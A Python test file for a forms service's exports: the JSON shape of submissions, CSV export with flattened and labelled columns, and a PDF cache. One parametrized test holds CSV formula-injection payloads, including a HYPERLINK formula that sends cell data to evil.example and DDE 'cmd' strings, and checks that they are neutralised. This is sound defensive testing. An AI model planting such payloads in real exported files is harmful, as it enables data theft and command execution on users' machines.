"""The JSON shape, the CSV export and the PDF cache of forms_service.exports."""

from __future__ import annotations

import csv
import datetime
import io
import json

import pytest

from forms_service.data import Submission
from forms_service.definitions.loader import load_definitions, load_form_text
from forms_service.exports import (
    BOM,
    FIXED_COLUMNS,
    READABLE_COLUMNS,
    CsvWording,
    pdf_content_hash,
    safe_cell,
    submission_json,
    submission_pdf,
    submissions_csv,
)
from tests.conftest import FORMS_DIR

DEFINITION = """
id: lasting-test
version: 2
title: Test form
pages:
  - id: about
    title: About you
    questions:
      - {id: full_name, type: name, label: Your name}
      - {id: home_address, type: address, label: Your address}
      - {id: savings, type: money, label: Savings}
      - {id: born, type: date, label: Date of birth}
      - {id: children, type: number, label: Children, decimals: 1}
      - id: likes
        type: checkboxes
        label: Likes
        options: [{value: tea, label: Tea}, {value: cake, label: Cake}]
      - {id: agree, type: yes_no, label: Agree?}
      - {id: notes, type: textarea, label: Notes, optional: true}
  - id: attorneys
    type: repeat
    item_name: attorney
    pages:
      - id: attorney-details
        title: Attorney
        questions:
          - {id: attorney_name, type: name, label: Name, titles: false}
          - {id: attorney_dob, type: date, label: Date of birth}
"""
FORM = load_form_text(DEFINITION, "lasting-test.yaml")
LIVE_FORMS, _ = load_definitions([FORMS_DIR])
SUBMITTED = datetime.datetime(2024, 5, 1, 9, 30, 15, 123456, tzinfo=datetime.UTC)


def make_submission(answers: dict, number: int = 1, **fields) -> Submission:
    values = {
        "id": number,
        "reference": f"LT-AAAA-{number:04d}",
        "draft_id": number,
        "form_id": FORM.id,
        "form_version": FORM.version,
        "definition": dict(FORM.snapshot),
        "answers": answers,
        "language": "en",
        "channel": "online",
        "started_at": SUBMITTED - datetime.timedelta(minutes=20),
        "submitted_at": SUBMITTED,
        "status": "received",
        "assigned_to": None,
        "due_on": datetime.date(2024, 5, 7),
        "applicant_name": "Jo Bloggs",
        **fields,
    }
    return Submission(**values)


ANSWERS = {
    "full_name": {"title": "Ms", "first": "Jo", "last": "Bloggs"},
    "home_address": {
        "line1": "1 High Street",
        "line2": "",
        "town": "Cardiff",
        "county": "",
        "postcode": "CF10 1AA",
    },
    "savings": 125050,
    "born": "1980-02-29",
    "children": 2.5,
    "likes": ["tea", "cake"],
    "agree": True,
    "notes": None,
    "attorneys": [
        {"attorney_name": {"first": "Ann", "last": "One"}, "attorney_dob": "1970-01-01"},
        {"attorney_name": {"first": "Bob", "last": "Two"}, "attorney_dob": "1971-02-03"},
    ],
}


def read_csv(lines) -> tuple[str, list[dict[str, str]]]:
    text = "".join(lines)
    body = text.removeprefix(BOM)
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    return text, rows


# -- JSON --------------------------------------------------------------------------------------


def test_submission_json_is_the_documented_shape_with_answers_as_stored():
    submission = make_submission(ANSWERS, assigned_to=3, status="in_progress")
    data = submission_json(submission)
    assert data == {
        "reference": "LT-AAAA-0001",
        "form": {"id": "lasting-test", "version": 2},
        "status": "in_progress",
        "submitted_at": "2024-05-01T09:30:15Z",
        "started_at": "2024-05-01T09:10:15Z",
        "language": "en",
        "channel": "online",
        "due_on": "2024-05-07",
        "assigned_to": 3,
        "applicant_name": "Jo Bloggs",
        "assisted": None,
        "answers": ANSWERS,
        "paper_form": False,  # the form names no paper form to fill
    }
    json.dumps(data)  # plain JSON all through


def test_submission_json_reads_naive_times_as_utc_and_nulls_stay_null():
    naive = SUBMITTED.replace(tzinfo=None)  # as SQLite gives them back
    other_zone = datetime.timezone(datetime.timedelta(hours=1))
    data = submission_json(
        make_submission(
            {},
            submitted_at=naive,
            started_at=SUBMITTED.astimezone(other_zone),
            due_on=None,
            status=None,
            applicant_name=None,
        )
    )
    assert data["submitted_at"] == "2024-05-01T09:30:15Z"
    assert data["started_at"] == "2024-05-01T09:30:15Z"
    assert (data["due_on"], data["assigned_to"], data["applicant_name"]) == (None, None, None)
    assert data["status"] == "received"


# -- CSV ---------------------------------------------------------------------------------------


def test_csv_starts_with_a_bom_and_has_fixed_then_question_columns_in_form_order():
    text, rows = read_csv(submissions_csv([make_submission(ANSWERS)], {FORM.id: FORM}))
    assert text.startswith(BOM + "reference,form,version,")
    assert text.count(BOM) == 1
    assert text.endswith("\r\n")
    header = next(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert header == [
        *FIXED_COLUMNS,
        "full_name.title",
        "full_name.first",
        "full_name.last",
        "home_address.line1",
        "home_address.line2",
        "home_address.town",
        "home_address.county",
        "home_address.postcode",
        "savings",
        "born",
        "children",
        "likes",
        "agree",
        "notes",
        "attorneys.1.attorney_name.first",
        "attorneys.1.attorney_name.last",
        "attorneys.1.attorney_dob",
        "attorneys.2.attorney_name.first",
        "attorneys.2.attorney_name.last",
        "attorneys.2.attorney_dob",
    ]
    (row,) = rows
    assert row["reference"] == "LT-AAAA-0001"
    assert (row["form"], row["version"], row["status"]) == ("lasting-test", "2", "received")
    assert row["submitted_at"] == "2024-05-01T09:30:15Z"
    assert (row["due_on"], row["applicant_name"]) == ("2024-05-07", "Jo Bloggs")
    assert (row["channel"], row["language"]) == ("online", "en")


def test_csv_flattens_compound_answers_and_formats_money_dates_choices():
    _, (row,) = read_csv(submissions_csv([make_submission(ANSWERS)], {FORM.id: FORM}))
    assert (row["full_name.title"], row["full_name.first"], row["full_name.last"]) == (
        "Ms",
        "Jo",
        "Bloggs",
    )
    assert row["home_address.line1"] == "1 High Street"
    assert row["home_address.postcode"] == "CF10 1AA"
    assert row["savings"] == "1250.50"  # stored as integer pence
    assert row["born"] == "1980-02-29"
    assert row["children"] == "2.5"
    assert row["likes"] == "tea; cake"
    assert row["agree"] == "yes"
    assert row["notes"] == ""
    assert row["attorneys.2.attorney_name.first"] == "Bob"
    assert row["attorneys.2.attorney_dob"] == "1971-02-03"


def test_money_in_whole_pounds_and_pence_only():
    cells = [
        read_csv(submissions_csv([make_submission({"savings": pence})], {FORM.id: FORM}))[1][0][
            "savings"
        ]
        for pence in (0, 5, 100, 99999999)
    ]
    assert cells == ["0.00", "0.05", "1.00", "999999.99"]


def test_repeats_get_numbered_columns_up_to_the_largest_count():
    three = {
        "attorneys": [
            {"attorney_name": {"first": f"A{n}", "last": "X"}, "attorney_dob": "1970-01-01"}
            for n in (1, 2, 3)
        ]
    }
    none = {"attorneys": []}
    _, rows = read_csv(
        submissions_csv(
            [make_submission(ANSWERS, 1), make_submission(three, 2), make_submission(none, 3)],
            {FORM.id: FORM},
        )
    )
    assert "attorneys.3.attorney_dob" in rows[0]
    assert "attorneys.4.attorney_dob" not in rows[0]
    assert "attorneys" not in rows[0]  # an empty repeat adds no column of its own
    assert rows[0]["attorneys.3.attorney_name.first"] == ""
    assert rows[1]["attorneys.3.attorney_name.first"] == "A3"
    assert all(rows[2][f"attorneys.{n}.attorney_dob"] == "" for n in (1, 2, 3))


def test_prison_visitors_repeat_becomes_numbered_columns():
    form = LIVE_FORMS["prison-visit-booking"]
    answers = {
        "prisoner_first_name": "Pat",
        "visitors": [
            {"visitor_first_name": "Kim", "visitor_last_name": "Lee", "visitor_dob": "2015-06-01"},
            {"visitor_first_name": "Sam", "visitor_last_name": "Lee", "visitor_dob": "2017-06-01"},
        ],
    }
    submission = make_submission(
        answers,
        form_id=form.id,
        form_version=form.version,
        definition=dict(form.snapshot),
        reference="PVB-AAAA-BBBB",
    )
    text, (row,) = read_csv(submissions_csv([submission], LIVE_FORMS))
    header = next(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert header.index("lead_visitor_first_name") < header.index("visitors.1.visitor_first_name")
    assert header.index("visitors.2.visitor_dob") < header.index("needs_support")
    assert row["visitors.2.visitor_first_name"] == "Sam"
    assert row["prisoner_first_name"] == "Pat"
    # Only the forms present have columns.
    assert not any(h.startswith("attorney") for h in header)


def test_columns_for_several_forms_and_for_questions_only_an_old_version_had():
    prison = LIVE_FORMS["prison-visit-booking"]
    old = make_submission({"retired_question": "kept", "savings": 100}, 1)
    visit = make_submission(
        {"prisoner_first_name": "Pat"},
        2,
        form_id=prison.id,
        form_version=prison.version,
        definition=dict(prison.snapshot),
    )
    text, rows = read_csv(submissions_csv([old, visit], {FORM.id: FORM, prison.id: prison}))
    header = next(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert header.index("savings") < header.index("retired_question")
    assert header.index("retired_question") < header.index("prisoner_first_name")
    assert rows[0]["retired_question"] == "kept" and rows[1]["retired_question"] == ""
    assert rows[1]["prisoner_first_name"] == "Pat" and rows[0]["prisoner_first_name"] == ""


@pytest.mark.parametrize(
    "answer",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "+44 7700 900982",  # a spreadsheet would read this as a formula too
        "\tcmd",
        "\r=1+1",
    ],
)
def test_formula_injection_is_neutralised_in_every_cell(answer):
    answers = {
        "notes": answer,
        "full_name": {"title": "", "first": answer, "last": "X"},
        "attorneys": [{"attorney_name": {"first": answer, "last": "Y"}}],
        "likes": [answer],
    }
    submission = make_submission(answers, applicant_name=answer)
    _, (row,) = read_csv(submissions_csv([submission], {FORM.id: FORM}))
    for column in ("notes", "full_name.first", "attorneys.1.attorney_name.first", "applicant_name"):
        assert row[column] == "'" + answer, column
    assert row["likes"] == "'" + answer


def test_safe_cell_leaves_ordinary_text_alone_and_headers_are_checked_too():
    assert safe_cell("Jo") == "Jo" and safe_cell("") == ""
    assert safe_cell("1-2") == "1-2" and safe_cell("a=b") == "a=b"
    assert safe_cell("-") == "'-"
    # Numbers are read as numbers, never as formulas: no stray apostrophe.
    assert [safe_cell(n) for n in ("-5", "+5", "-2.50", "-.5", "2024-05-01")] == [
        "-5",
        "+5",
        "-2.50",
        "-.5",
        "2024-05-01",
    ]
    assert safe_cell("-5-5") == "'-5-5" and safe_cell("-1e3") == "'-1e3"
    answers = {"=cmd": "x"}  # an unknown key from a tampered snapshot still cannot run
    text, _ = read_csv(submissions_csv([make_submission(answers)], {FORM.id: FORM}))
    header = next(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert "'=cmd" in header


def test_negative_money_stays_a_number():
    _, (row,) = read_csv(submissions_csv([make_submission({"savings": -250})], {FORM.id: FORM}))
    assert row["savings"] == "-2.50"


def test_cells_with_commas_quotes_and_newlines_round_trip():
    tricky = 'Line one, with "quotes"\nline two'
    _, (row,) = read_csv(submissions_csv([make_submission({"notes": tricky})], {FORM.id: FORM}))
    assert row["notes"] == tricky


def test_csv_is_streamed_line_by_line():
    lines = submissions_csv([make_submission(ANSWERS, n) for n in (1, 2, 3)], {FORM.id: FORM})
    assert next(lines).startswith(BOM + "reference")
    assert next(lines).startswith("LT-AAAA-0001,")
    assert len(list(lines)) == 2


def test_no_submissions_gives_just_the_header():
    assert list(submissions_csv([], {FORM.id: FORM})) == [BOM + ",".join(FIXED_COLUMNS) + "\r\n"]


# -- CSV for people ----------------------------------------------------------------------------

PEOPLE = CsvWording(staff_names={3: "Priya Shah"})


def people_csv(submissions, forms=None):
    return read_csv(submissions_csv(submissions, forms or {FORM.id: FORM}, PEOPLE))


def test_csv_for_people_has_the_forms_own_labels_as_headings_in_form_order():
    text, _ = people_csv([make_submission(ANSWERS)])
    header = next(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert header == [
        *READABLE_COLUMNS,
        "Your name (title)",
        "Your name (first name)",
        "Your name (last name)",
        "Your address (address line 1)",
        "Your address (address line 2)",
        "Your address (town or city)",
        "Your address (county)",
        "Your address (postcode)",
        "Savings",
        "About you: date of birth",
        "Children",
        "Likes",
        "Agree?",
        "Notes",
        "Attorney 1: name (first name)",
        "Attorney 1: name (last name)",
        "Attorney 1: date of birth",
        "Attorney 2: name (first name)",
        "Attorney 2: name (last name)",
        "Attorney 2: date of birth",
    ]


def test_csv_for_people_gives_labels_names_and_iso_dates():
    submission = make_submission(ANSWERS, assigned_to=3, status="in_progress", channel="paper")
    _, (row,) = people_csv([submission])
    assert row["Reference"] == "LT-AAAA-0001" and row["Form"] == "Test form"
    assert (row["Status"], row["Assigned to"]) == ("In progress", "Priya Shah")
    assert (row["Channel"], row["Language"]) == ("Paper", "English")
    # UK time with its offset (British Summer Time in May), dates as YYYY-MM-DD.
    assert row["Submitted"] == "2024-05-01T10:30:15+01:00"
    assert (row["Due"], row["About you: date of birth"]) == ("2024-05-07", "1980-02-29")
    assert (row["Likes"], row["Agree?"]) == ("Tea; Cake", "Yes")
    assert row["Savings"] == "1250.50"  # a plain number a spreadsheet can add up
    assert row["Attorney 2: date of birth"] == "1971-02-03"
    assert not any(cell.startswith("'") for cell in row.values())


def test_csv_for_people_winter_times_unassigned_and_gone_assignees():
    winter = SUBMITTED.replace(month=12)
    _, rows = people_csv(
        [
            make_submission({}, 1, submitted_at=winter),
            make_submission({}, 2, assigned_to=99, status=None),
        ]
    )
    assert rows[0]["Submitted"] == "2024-12-01T09:30:15+00:00"
    assert rows[0]["Assigned to"] == ""
    assert (rows[1]["Assigned to"], rows[1]["Status"]) == ("Unknown user", "Received")


def test_csv_for_people_tells_shared_labels_apart_by_page_and_item():
    form = LIVE_FORMS["prison-visit-booking"]
    answers = {
        "lead_visitor_first_name": "Ann",
        "prison": "cardiff",
        "visitors": [
            {"visitor_first_name": "Kim", "visitor_last_name": "Lee", "visitor_dob": "2015-06-01"},
        ],
    }
    submission = make_submission(
        answers, form_id=form.id, form_version=form.version, definition=dict(form.snapshot)
    )
    text, (row,) = people_csv([submission], LIVE_FORMS)
    header = next(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert len(header) == len(set(header))
    assert row["Visitor details: first name"] == "Ann"
    assert row["Visitor 1: first name"] == "Kim"
    assert row["Visitor 1: date of birth"] == "2015-06-01"
    assert row["Prison name"] == "HMP Cardiff"  # the option's label, not "cardiff"
    assert header.index("Visitor details: first name") < header.index("Visitor 1: first name")


def test_csv_for_people_heads_a_question_only_an_old_version_had_with_its_label():
    old_definition = DEFINITION.replace("version: 2", "version: 1").replace(
        "{id: agree, type: yes_no, label: Agree?}",
        "{id: agree, type: yes_no, label: Agree?}\n      - {id: pets, type: text, label: Pets}",
    )
    old_form = load_form_text(old_definition, "lasting-test.yaml")
    old = make_submission({"pets": "=cat"}, 1, form_version=1, definition=dict(old_form.snapshot))
    _, (row,) = people_csv([old])
    assert row["Pets"] == "'=cat"


def test_codes_csv_keeps_stored_values_and_gives_the_assignee_id():
    submission = make_submission(ANSWERS, assigned_to=3)
    _, (row,) = read_csv(submissions_csv([submission], {FORM.id: FORM}))
    assert (row["likes"], row["agree"], row["assigned_to"]) == ("tea; cake", "yes", "3")


# -- PDF cache ---------------------------------------------------------------------------------


class FakePdfStore:
    def __init__(self):
        self.rows: dict[int, tuple[str, bytes]] = {}

    def stored_pdf(self, submission_id: int, content_hash: str) -> bytes | None:
        row = self.rows.get(submission_id)
        return row[1] if row and row[0] == content_hash else None

    def store_pdf(self, submission_id: int, content_hash: str, pdf: bytes) -> None:
        self.rows[submission_id] = (content_hash, pdf)


def test_the_pdf_is_made_once_and_again_when_code_answers_or_definition_change():
    store, made = FakePdfStore(), []

    def render(submission) -> bytes:
        made.append(submission.reference)
        return f"%PDF-{len(made)}".encode()

    submission = make_submission(ANSWERS)
    assert submission_pdf(store, submission, render) == b"%PDF-1"
    assert submission_pdf(store, submission, render) == b"%PDF-1"
    assert len(made) == 1
    assert submission_pdf(store, submission, render, version="pdf-next") == b"%PDF-2"
    submission.answers = {**ANSWERS, "notes": "changed"}
    assert submission_pdf(store, submission, render, version="pdf-next") == b"%PDF-3"
    first = pdf_content_hash(submission)
    submission.definition = {**submission.definition, "title": "Renamed"}
    assert pdf_content_hash(submission) != first
    # The cover line: the status and the assignee's name.
    renamed = pdf_content_hash(submission)
    submission.status = "accepted"
    accepted = pdf_content_hash(submission)
    assert accepted != renamed
    assert pdf_content_hash(submission, assignee="Priya Shah") != accepted
